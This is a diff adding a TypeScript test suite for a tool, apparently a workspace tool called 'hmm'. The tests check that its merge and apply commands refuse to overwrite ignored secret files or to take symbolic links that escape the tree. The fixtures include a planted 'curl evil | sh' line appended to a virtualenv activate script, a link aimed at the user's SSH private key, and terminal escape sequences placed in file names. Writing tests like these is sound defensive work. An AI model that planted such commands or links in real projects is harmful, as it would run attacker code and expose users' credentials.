@@ -1,0 +1,271 @@
+// What merge and apply refuse to write into the origin (SPEC "hmm merge",
+// "hmm apply" › Paths): files the origin does not track, which git would
+// overwrite or remove, and symbolic links that lead out of the tree.
+import {execa} from 'execa'
+import {mkdirSync, readFileSync, readlinkSync, renameSync} from 'node:fs'
+import {join} from 'node:path'
+import {afterEach, describe, expect, it} from 'vitest'
+import {World} from '../world.js'
+import {hmm, made, snapshot, taking} from './taking.js'
+
+let world: World
+afterEach(() => world?.dispose())
+
+/** An origin whose .gitignore hides a `.env` with live keys and a virtualenv, both only there. */
+async function originWithSecrets(name: string): Promise<void> {
+  world = new World(name)
+  await world.git(['init', '-q'])
+  world.file('README.md', 'hello\n')
+  world.file('.gitignore', '.env\n.venv/\n')
+  await world.git(['add', '-A'])
+  await world.git(['commit', '-qm', 'first'])
+  world.file('.env', 'API_KEY=live\n')
+  world.file('.venv/bin/activate', 'real activate\n')
+}
+
+/** The command narrows .gitignore and commits a placeholder .env and .venv/bin/activate with a line appended. */
+const PLANT = [
+  "printf '.venv/*\\n!.venv/bin/\\n.venv/bin/*\\n!.venv/bin/activate\\n' > .gitignore",
+  'echo API_KEY=placeholder > .env',
+  'echo "curl evil | sh" >> .venv/bin/activate',
+  'git add -A && git commit -qm env',
+].join(' && ')
+
+describe('hmm merge never overwrites or removes what the origin does not track', () => {
+  it('refuses a fast-forward that would overwrite ignored files, naming each with why, and leaves the origin as it was', async () => {
+    await originWithSecrets('refuse-ignored-ff')
+    const ws = await made(world, PLANT, 'env')
+    const before = snapshot(world.origin)
+    const result = await taking(world, ['merge', 'env'])
+    expect(result).toEqual({
+      exitCode: 1,
+      stdout: '',
+      stderr: [
+        `hmm: workspace ${ws.label}'s commits would overwrite or remove files that git does not track in ${world.origin}:`,
+        `hmm:   .env: ignored in ${world.origin} and present there`,
+        `hmm:   .venv/bin/activate: ignored in ${world.origin} and present there`,
+        `hmm: move them out of ${world.origin}, then hmm merge ${ws.id} again (hmm log -p ${ws.id} shows what the commits put there)`,
+        '',
+      ].join('\n'),
+    })
+    // Nothing changed: HEAD, index, refs, files.
+    expect(snapshot(world.origin)).toEqual(before)
+    // What it says resolves it does.
+    renameSync(join(world.origin, '.env'), join(world.home, 'env.mine'))
+    renameSync(join(world.origin, '.venv'), join(world.home, 'venv.mine'))
+    expect((await taking(world, ['merge', 'env'])).exitCode).toBe(0)
+    expect(readFileSync(join(world.origin, '.env'), 'utf8')).toBe('API_KEY=placeholder\n')
+  })
+
+  it("refuses a merge commit (the origin's branch moved) that would overwrite them, HEAD and index left alone", async () => {
+    await originWithSecrets('refuse-ignored-merge')
+    const ws = await made(world, PLANT)
+    world.file('meanwhile.txt', 'the user committed meanwhile\n')
+    await world.git(['add', 'meanwhile.txt'])
+    await world.git(['commit', '-qm', 'meanwhile'])
+    const before = snapshot(world.origin)
+    const result = await taking(world, ['merge'])
+    expect(result.exitCode).toBe(1)
+    expect(result.stderr).toContain(`hmm:   .env: ignored in ${world.origin} and present there\n`)
+    expect(result.stderr).toContain(`hmm:   .venv/bin/activate: ignored in ${world.origin} and present there\n`)
+    expect(result.stderr).toContain(`hmm: workspace ${ws.label}'s commits would overwrite or remove files`)
+    expect(snapshot(world.origin)).toEqual(before)
+  })
+
+  it('refuses commits that turn an ignored file into a directory, or a directory holding ignored files into a file', async () => {
+    world = new World('refuse-ignored-shapes')
+    await world.git(['init', '-q'])
+    world.file('.gitignore', 'cache\n*.pyc\n')
+    world.file('d/a.py', 'a\n')
+    await world.git(['add', '-A'])
+    await world.git(['commit', '-qm', 'first'])
+    world.file('cache', 'the user cached this\n')
+    world.file('d/a.pyc', 'compiled\n')
+    const ws = await made(
+      world,
+      'echo > .gitignore && rm cache && mkdir cache && echo x > cache/x && git rm -qr d && rm -rf d && echo file > d && git add -A && git commit -qm shapes',
+    )
+    const before = snapshot(world.origin)
+    const result = await taking(world, ['merge'])
+    expect(result.exitCode).toBe(1)
+    expect(result.stderr.split('\n').filter(line => line.startsWith('hmm:   '))).toEqual([
+      `hmm:   cache: ignored in ${world.origin} and present there`,
+      `hmm:   d/a.pyc: ignored in ${world.origin} and present there`,
+    ])
+    expect(result.stderr).toContain(`hmm: workspace ${ws.label}'s commits would overwrite or remove files`)
+    expect(snapshot(world.origin)).toEqual(before)
+  })
+
+  it("refuses a merge that git's rename detection would make write over an ignored file elsewhere (merge-ort ignores --no-overwrite-ignore)", async () => {
+    world = new World('refuse-ignored-renamed')
+    await world.git(['init', '-q'])
+    world.file('.gitignore', '/src/new.txt\n')
+    world.file('lib/a.txt', 'a\n')
+    world.file('lib/b.txt', 'b\n')
+    await world.git(['add', '-A'])
+    await world.git(['commit', '-qm', 'first'])
+    const ws = await made(world, 'echo planted > lib/new.txt && git add lib/new.txt && git commit -qm new')
+    // The user renames lib/ meanwhile: git merge would put the workspace's lib/new.txt at src/new.txt.
+    await world.git(['mv', 'lib', 'src'])
+    await world.git(['commit', '-qm', 'renamed'])
+    world.file('src/new.txt', 'the user keeps this here\n')
+    const before = snapshot(world.origin)
+    const result = await taking(world, ['merge'])
+    expect(result.exitCode).toBe(1)
+    expect(result.stderr).toContain(`hmm: workspace ${ws.label}'s commits would overwrite or remove files that git does not track in ${world.origin}:\n`)
+    expect(result.stderr).toContain(`hmm:   src/new.txt: ignored in ${world.origin} and present there\n`)
+    expect(snapshot(world.origin)).toEqual(before)
+  })
+
+  it('refuses, --force or not, commits that write where the origin has an untracked file', async () => {
+    world = new World('refuse-untracked')
+    await world.gitRepo()
+    const ws = await made(world, 'echo ws > notes.txt && git add notes.txt && git commit -qm notes')
+    const before = snapshot(world.origin)
+    // --force: the commit makes notes.txt where the origin had it untracked, which hmm diff leaves out (review.test.ts).
+    const result = await taking(world, ['merge', '--force'])
+    expect(result.exitCode).toBe(1)
+    expect(result.stderr).toContain(`hmm: workspace ${ws.label}'s commits would overwrite or remove files that git does not track in ${world.origin}:\n`)
+    expect(result.stderr).toContain(`hmm:   notes.txt: untracked in ${world.origin} and present there\n`)
+    expect(snapshot(world.origin)).toEqual(before)
+  })
+
+  it('merges commits that delete a tracked directory holding ignored files, leaving those', async () => {
+    world = new World('merge-keeps-ignored')
+    await world.git(['init', '-q'])
+    world.file('.gitignore', '*.pyc\n')
+    world.file('d/a.py', 'a\n')
+    world.file('b.txt', 'b\n')
+    await world.git(['add', '-A'])
+    await world.git(['commit', '-qm', 'first'])
+    world.file('d/a.pyc', 'compiled\n')
+    await made(world, 'git rm -qr d && echo more >> b.txt && git commit -qam gone')
+    expect((await taking(world, ['merge'])).exitCode).toBe(0)
+    expect(readFileSync(join(world.origin, 'd/a.pyc'), 'utf8')).toBe('compiled\n')
+    expect(readFileSync(join(world.origin, 'b.txt'), 'utf8')).toBe('b\nmore\n')
+  })
+
+  it('leaves hmm apply refusing them too, and hmm pr writing no file', async () => {
+    await originWithSecrets('refuse-ignored-apply')
+    const ws = await made(world, PLANT)
+    const before = snapshot(world.origin)
+    const applied = await hmm(world, ['apply'])
+    expect(applied.exitCode).toBe(1)
+    expect(applied.stderr).toContain(`hmm: workspace ${ws.id} does not apply to ${world.origin}\n`)
+    expect(applied.stderr).toContain('.env: already exists in working directory')
+    expect(snapshot(world.origin)).toEqual(before)
+    // A push writes no file of the user's: pr's work goes to a remote.
+    const remote = join(world.root, 'remote.git')
+    await world.git(['init', '-q', '--bare', remote])
+    await world.git(['remote', 'add', 'origin', remote])
+    const pushed = await taking(world, ['pr'])
+    expect(pushed.exitCode, pushed.stderr).toBe(0)
+    expect(readFileSync(join(world.origin, '.env'), 'utf8')).toBe('API_KEY=live\n')
+    expect(readFileSync(join(world.origin, '.venv/bin/activate'), 'utf8')).toBe('real activate\n')
+  })
+})
+
+describe('symbolic links that lead out of the tree', () => {
+  /** A link to the user's key (absolute), one climbing out with .., one climbing out through another link, and one staying inside. */
+  const LINKS = [
+    'ln -s "$HOME/.ssh/id_ed25519" k',
+    'mkdir -p a && ln -s ../../x a/b',
+    // e/up leads to the tree's top, inside; through it, e/up/../secret climbs out (read as text it would not).
+    'mkdir e && ln -s .. e/up && ln -s e/up/../secret c',
+    'ln -s README.md inside && ln -s ../README.md a/in',
+  ].join(' && ')
+
+  async function madeWithLinks(name: string, script: string): Promise<{label: string; id: string}> {
+    world = new World(name)
+    await world.git(['init', '-q'])
+    world.file('README.md', 'hello\n')
+    await world.git(['add', '-A'])
+    await world.git(['commit', '-qm', 'first'])
+    return made(world, script)
+  }
+
+  it('hmm diff and diff --stat show each as link -> TARGET (outside the tree), after an unchanged patch', async () => {
+    const ws = await madeWithLinks('links-diff', LINKS)
+    const home = world.home
+    const marks = [
+      `hmm: a/b -> ../../x (outside the tree)`,
+      `hmm: c -> e/up/../secret (outside the tree)`,
+      `hmm: k -> ${home}/.ssh/id_ed25519 (outside the tree)`,
+    ]
+    const diff = await hmm(world, ['diff'])
+    expect(diff.exitCode).toBe(0)
+    expect(diff.stdout).toContain('diff --git a/k b/k\nnew file mode 120000\n')
+    expect(diff.stderr.split('\n').filter(Boolean)).toEqual(marks)
+    const stat = await hmm(world, ['diff', '--stat'])
+    expect(stat.stdout).toContain(' k ')
+    expect(stat.stderr.split('\n').filter(Boolean)).toEqual(marks)
+    // The patch is still one git applies: the marks are not in it.
+    const copy = join(world.root, 'copy')
+    mkdirSync(copy)
+    await execa('git', ['apply', '-'], {cwd: copy, env: world.env, extendEnv: false, input: diff.stdout})
+    expect(readlinkSync(join(copy, 'a/b'))).toBe('../../x')
+    expect(readlinkSync(join(copy, 'e/up'))).toBe('..')
+    expect(ws.id).toMatch(/^[0-9a-z]{6}$/)
+  })
+
+  it('hmm apply refuses them naming each, changing nothing, and takes them with --force', async () => {
+    const ws = await madeWithLinks('links-apply', LINKS)
+    const before = snapshot(world.origin)
+    const refused = await hmm(world, ['apply'])
+    expect(refused).toEqual({
+      exitCode: 1,
+      stdout: '',
+      stderr: [
+        `hmm: workspace ${ws.label} holds symbolic links that lead out of the tree:`,
+        'hmm:   a/b: link outside the tree (to ../../x)',
+        'hmm:   c: link outside the tree (to e/up/../secret)',
+        `hmm:   k: link outside the tree (to ${world.home}/.ssh/id_ed25519)`,
+        `hmm: look at them with hmm diff ${ws.id}; hmm apply --force ${ws.id} takes them anyway`,
+        '',
+      ].join('\n'),
+    })
+    expect(snapshot(world.origin)).toEqual(before)
+    expect((await hmm(world, ['apply', '--check'])).exitCode).toBe(1)
+    expect(await hmm(world, ['apply', '--force'])).toMatchObject({exitCode: 0, stderr: `hmm: applied workspace ${ws.label} to ${world.origin}\n`})
+    expect(readlinkSync(join(world.origin, 'k'))).toBe(`${world.home}/.ssh/id_ed25519`)
+    expect(readlinkSync(join(world.origin, 'inside'))).toBe('README.md')
+  })
+
+  it('hmm merge refuses them naming each, changing nothing, and takes them with --force', async () => {
+    const ws = await madeWithLinks('links-merge', `${LINKS} && git add -A && git commit -qm links`)
+    const before = snapshot(world.origin)
+    const refused = await taking(world, ['merge'])
+    expect(refused.exitCode).toBe(1)
+    expect(refused.stderr).toBe(
+      [
+        `hmm: workspace ${ws.label}'s commits hold symbolic links that lead out of the tree:`,
+        'hmm:   a/b: link outside the tree (to ../../x)',
+        'hmm:   c: link outside the tree (to e/up/../secret)',
+        `hmm:   k: link outside the tree (to ${world.home}/.ssh/id_ed25519)`,
+        `hmm: look at them with hmm log -p ${ws.id}; hmm merge --force ${ws.id} takes them anyway`,
+        '',
+      ].join('\n'),
+    )
+    expect(snapshot(world.origin)).toEqual(before)
+    expect((await taking(world, ['merge', '--force'])).exitCode).toBe(0)
+    expect(readlinkSync(join(world.origin, 'a/b'))).toBe('../../x')
+  })
+
+  it('keeps links inside the tree working as before', async () => {
+    const ws = await madeWithLinks(
+      'links-inside',
+      'ln -s README.md inside && mkdir -p d/e && ln -s ../README.md d/in && ln -s .. d/e/up && ln -s d/e/up/in via',
+    )
+    expect((await hmm(world, ['diff'])).stderr).toBe('')
+    expect(await hmm(world, ['apply'])).toMatchObject({exitCode: 0, stderr: `hmm: applied workspace ${ws.label} to ${world.origin}\n`})
+    expect(readlinkSync(join(world.origin, 'd/in'))).toBe('../README.md')
+    expect(readFileSync(join(world.origin, 'via'), 'utf8')).toBe('hello\n')
+  })
+
+  it('shows a target with control characters printable', async () => {
+    const ws = await madeWithLinks('links-escapes', 'ln -s "$(printf "/x\\033]0;t\\007\\342\\200\\256")" "$(printf "e\\033[2J")"')
+    expect((await hmm(world, ['diff', '--stat'])).stderr).toBe('hmm: e?[2J -> /x?]0;t?<U+202E> (outside the tree)\n')
+    expect((await hmm(world, ['apply'])).stderr).toContain('hmm:   e?[2J: link outside the tree (to /x?]0;t?<U+202E>)\n')
+    expect(ws.id).toMatch(/^[0-9a-z]{6}$/)
+  })
+})
